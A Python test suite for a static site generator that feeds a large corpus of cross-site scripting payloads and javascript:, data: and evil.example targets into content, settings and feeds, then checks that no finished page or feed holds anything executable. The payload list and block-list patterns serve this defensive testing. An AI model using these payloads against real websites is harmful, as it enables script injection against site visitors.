"""No content becomes script: whatever is written, no finished page holds anything that could run."""

import json
import re
from collections.abc import Iterator, Mapping
from html import unescape
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markup import Markup, read
from support import built, files

from communique.policy import META_POLICY

# elements that run, load, send, hide or change how the rest is read
ELEMENTS = re.compile(
    r"animate\w*|applet|base|bgsound|button|canvas|dialog|embed|feimage|fieldset|foreignobject|form|frame|frameset|handler|"
    r"iframe|input|isindex|keygen|layer|listing|marquee|math|noembed|noframes|noscript|object|param|plaintext|portal|"
    r"select|set|slot|style|template|textarea|xml|xmp"
)
ATTRIBUTES = re.compile(
    r"on.*|style|srcdoc|formaction|action|background|dynsrc|lowsrc|ping|xlink:href|xml:base|http-equiv|is|slot|nonce"
)
SCHEMES = ("http", "https", "mailto", "tel")
# the form of the search is the site's own: this much, and no more
OWN = {"search/index.html": ["<form>", "<input>", "<button>", "<button>", "<template>"]}

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=width:expression(alert(1))>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javas&#99;ript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss onclick=alert(1) tabindex=1>x</xss>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    '"onmouseover="alert(1)',
    "'onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`<img src=x onerror=alert(1)>`",
    "``<script>``alert(1)``</script>``",
    '="/" onmouseover="alert(1)"',
    '[x](partner:delta "a\\" onclick=alert(1) x=\\"")',
    "[x](partner:delta 'a\" onclick=\"alert(1)')",
    '![x" onerror="alert(1)](a.png)',
    "[<script>alert(1)</script>](partner:delta)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "<javascript:alert(1)>",
    "<x@y.z?javascript:alert(1)>",
    "# <img src=x onerror=alert(1)>\n\n## x {onclick=alert(1)}",
    "x {: onclick=alert(1) }",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^<script>]: <script>alert(1)</script>\n\nx[^<script>]",
    "> <script>alert(1)</script>\n> — Ada Byron",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "{{ ''.__class__ }}{% import 'os' as os %}{{ '<script>' | safe }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> <?php alert(1) ?>",
    "\u2028</script>\u2029<script>alert(1)</script>",
)
TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\u200bscript:alert(1)",
    "java\u00adscript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "<javascript:alert(1)>",
    "<java\tscript:alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:,x",
    "blob:https://x/y",
    "filesystem:x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:x!/y",
    "//evil.example/x.js",
    "/\\evil.example",
    "\\\\evil.example",
    "https:javascript:alert(1)",
    'https://x/"onmouseover="alert(1)',
    "https://x/'onmouseover='alert(1)",
    'x.md" onclick="alert(1)',
    "mailto:a@b?body=<script>alert(1)</script>",
    '#"onclick="alert(1)',
    '/"><script>alert(1)</script>',
)


def dangers(page: Markup) -> Iterator[str]:
    """What on a page could run, load a program, or take readers elsewhere unasked."""
    for element in page.elements:
        tag, attributes = element.tag, element.attributes
        if ELEMENTS.fullmatch(tag):
            yield f"<{tag}>"
        if tag == "script" and not _harmless(attributes, element.text):
            yield f"<script {attributes}>"
        if tag == "link" and attributes.get("rel") not in (
            "canonical",
            "icon",
            "stylesheet",
            "alternate",
            "search",
            "manifest",
        ):
            yield f"<link {attributes}>"
        policy = attributes == {"http-equiv": "Content-Security-Policy", "content": META_POLICY}
        for name, value in attributes.items() if not policy else ():
            if ATTRIBUTES.fullmatch(name):
                yield f"<{tag} {name}>"
            if name in ("href", "src", "data", "poster", "cite", "longdesc", "srcset") and _runs(value):
                yield f"<{tag} {name}={value}>"
            if name in ("src", "srcset", "poster", "data") and re.match(r"\s*(?:[a-z]+:)?//", value, re.IGNORECASE):
                yield f"<{tag} {name}={value}> loads"


def _harmless(attributes: Mapping[str, str], text: str) -> bool:
    """Whether a script is the site's own, or data that no sign can end."""
    if "src" in attributes:
        return (
            not text.strip()
            and re.fullmatch(r"(?:\./|(?:\.\./)+|/)[\w-]+\.js(?:\?v=\w+)?", attributes["src"]) is not None
        )
    return attributes.get("type") in ("application/ld+json", "application/json") and json.loads(text) is not None


def _runs(value: str) -> bool:
    """Whether a browser may see a scheme here that is not one of the harmless ones."""
    bare = value
    for _ in range(2):
        bare = re.sub(r"[\x00-\x20\x7f-\xa0\xad\u200b-\u200f\u2028-\u202f\u2060\ufeff]", "", unescape(bare))
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare, re.IGNORECASE)
    return scheme is not None and scheme[1].lower() not in SCHEMES


def found(finished: Mapping[str, bytes]) -> dict[str, list[str]]:
    """The dangers in all pages, in what feeds carry and in the index of the search, by path."""
    pages = {path: [data.decode()] for path, data in finished.items() if path.endswith(".html")}
    for path, data in finished.items():
        if path.endswith("feed.xml"):
            pages[path] = [each.text or "" for each in fromstring(data).iter("{http://www.w3.org/2005/Atom}content")]
    pages["feed.json"] = [item["content_html"] for item in json.loads(finished["feed.json"])["items"]]
    judged = {path: [danger for text in texts for danger in dangers(read(text))] for path, texts in pages.items()}
    judged |= {path: ["a program"] for path, data in finished.items() if _indexes(path) and not _inert(data)}
    return {path: each for path, each in judged.items() if each and each != OWN.get(path)}


def _indexes(path: str) -> bool:
    return "search/" in path and path.endswith(".js")


def _inert(data: bytes) -> bool:
    """Whether a script hands over one value of JSON and does nothing else, and would show no tags as a page."""
    whole = re.fullmatch(r"searchPart\((.*)\)\n", data.decode(), re.DOTALL)
    return whole is not None and json.loads(whole[1]) is not None and not re.search("[<\u2028\u2029]", whole[1])


def record(body: str = "x", **fields: str) -> bytes:
    """A content file; JSON strings are YAML, so any text can be a value."""
    front = "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in fields.items())
    return f"---\n{front}partners: [delta]\ndate: 2025-10-27\n---\n\n{body}\n".encode()


def texts() -> dict[str, bytes]:
    """An announcement for each payload, with it as the body and in lists, tables and quotes."""
    return {
        f"content/announcements/p{number}-{kind}.md": record(body, title=f"P {number} {kind}", summary="S")
        for number, payload in enumerate(PAYLOADS)
        for kind, body in {
            "body": payload,
            "list": "- x\n- " + payload.replace("\n", "\n  "),
            "quote": "> " + payload.replace("\n", "\n> ") + "\n> — Ada Byron",
            "label": f"[{payload}](partner:delta)",
        }.items()
    }


def targets() -> dict[str, bytes]:
    """An announcement for each way in which each target can stand in a text."""
    return {
        f"content/announcements/t{number}-{kind}.md": record(body, title=f"T {number} {kind}", summary="S")
        for number, target in enumerate((*TARGETS, *PAYLOADS[::4]))
        for kind, body in {
            "link": f"[x]({target})",
            "angle": f"[x](<{target}>)",
            "image": f"![x]({target})",
            "label": f"[x][y]\n\n[y]: {target}",
            "auto": f"<{target}>",
        }.items()
    }


def fields() -> dict[str, bytes]:
    """Records with each payload in every field that is a text."""
    made: dict[str, bytes] = {}
    for number, payload in enumerate(PAYLOADS):
        line = " ".join(payload.split())
        extra = "".join(
            f"{each}\n"
            for each in (
                f"facts: [{{value: {json.dumps(line)}, label: {json.dumps(line)}, source: {json.dumps(line)}}}]",
                f"events: [{{date: 2025, what: {json.dumps(line)}}}]",
                f"source: {{name: {json.dumps(line)}}}",
                f"corrections: [{{date: 2025-10-28, note: {json.dumps(payload)}}}]",
                f"withdrawn: {{date: 2025-10-29, note: {json.dumps(payload)}}}",
                f"topics: [t{number}]",
                f"contacts: [a{number}]",
            )
        )
        told = record(
            f"{line} says {line}.", title=line, subtitle=line, summary=line, place=line, notes=payload
        ).decode()
        made[f"content/announcements/f{number}.md"] = told.replace(
            "partners: [delta]", f"{extra}partners: [delta, p{number}]"
        ).encode()
        name = json.dumps(f"{line} {number}", ensure_ascii=False)
        made[f"content/partners/p{number}.md"] = (
            f"---\nname: {name}\nshort: {name}\nkind: company\ncity: {name}\ncountry: {name}\nalso: [{name}]\n"
            f"boilerplate: {json.dumps(payload)}\n---\n\n{payload}\n"
        ).encode()
        made[f"content/people/a{number}.md"] = (
            f"---\nname: {name}\nhonorific: {name}\nroles: [{{title: {name}, source: {name}}}]\n---\n\n{payload}\n"
        ).encode()
        made[f"content/topics/t{number}.md"] = f"---\nname: {name}\n---\n\n{payload}\n".encode()
    return made


def settled(payload: str) -> dict[str, bytes]:
    """The base site with a payload in the settings."""
    line = json.dumps(" ".join(payload.split()), ensure_ascii=False)
    told = files()["site.yaml"].decode().replace("title: Two Rivers", f"title: {line}\ntagline: {line}")
    contact = f"contact: {{name: {line}, email: {line}, phone: {line}, hours: {line}, note: {line}}}\n"
    return {**files(), "site.yaml": f"{told}{contact}".encode()}


def test_the_corpus_is_large_and_would_run_if_it_were_let_through() -> None:
    assert len(set(PAYLOADS)) + len(set(TARGETS)) >= 120
    caught = [payload for payload in PAYLOADS if [*dangers(read(payload))]]
    assert len(caught) >= 45
    assert all([*dangers(read(f'<a href="{target}">'))] for target in TARGETS[:9])


@pytest.mark.parametrize("made", [texts, targets, fields], ids=["texts", "targets", "fields"])
def test_no_page_and_no_feed_holds_what_could_run(made: object) -> None:
    assert callable(made)
    site = {**files(), **made()}
    finished = built(site).files
    assert found(finished) == {}
    pages = [path for path in finished if path.endswith(".html")]
    assert len(pages) > len(PAYLOADS)
    assert b"alert(1)" in b"".join(data for path, data in finished.items() if _indexes(path))


@pytest.mark.parametrize("payload", PAYLOADS[::4])
def test_settings_are_text_too(payload: str) -> None:
    assert found(built(settled(payload)).files) == {}


@settings(max_examples=25, derandomize=True)
@given(
    st.lists(st.sampled_from([*PAYLOADS, *TARGETS, "[x](", ")", "`", "<!--", "-->", "\n\n", "**", "> "]), max_size=6)
)
def test_payloads_broken_and_joined_are_text_too(parts: list[str]) -> None:
    site = {**files(), "content/announcements/joined.md": record("".join(parts), title="Joined", summary="S")}
    assert found(built(site).files) == {}
